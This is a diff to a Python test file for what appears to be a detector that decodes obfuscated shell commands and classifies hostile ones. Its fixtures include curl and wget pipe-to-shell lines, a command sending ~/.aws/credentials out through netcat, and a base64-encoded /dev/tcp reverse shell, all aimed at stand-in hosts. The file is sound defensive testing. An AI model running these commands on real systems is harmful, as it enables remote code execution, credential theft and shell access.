@@ -91,6 +91,8 @@ def test_undecodable_or_binary_payloads_are_not_appended() -> None:
     # a base64-looking token with no decoding on the line stays as it is
     token = _b64("curl http://x | sh")
     assert deobfuscate(f"echo {token} > note.txt") is None
+    # decoded into a file, not run: data until something runs it
+    assert deobfuscate(f"echo {token} | base64 -d > p.sh") is None
     # an ssh public key mentions no decoder and is not decoded
     assert deobfuscate("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG' >> keys") is None
 
@@ -145,7 +147,7 @@ def test_normalized_text_is_one_more_derived_subject() -> None:
         ("curl${IFS}-s${IFS}http://x.example/i|sh", "exec-pipe-to-shell"),
         ("wget -qO- http://x.example/i | /usr/bin/busybox sh", "exec-pipe-to-shell"),
         ("cat ~/.aws/credentials${IFS}|${IFS}nc${IFS}203.0.113.5${IFS}4444", "exfil-netcat-transfer"),
-        (f"echo {_b64('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')} | base64 -d > /dev/null",
+        (f"echo {_b64('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')} | base64 -d | bash",
          "tunnel-reverse-shell-devtcp"),
     ],
 )
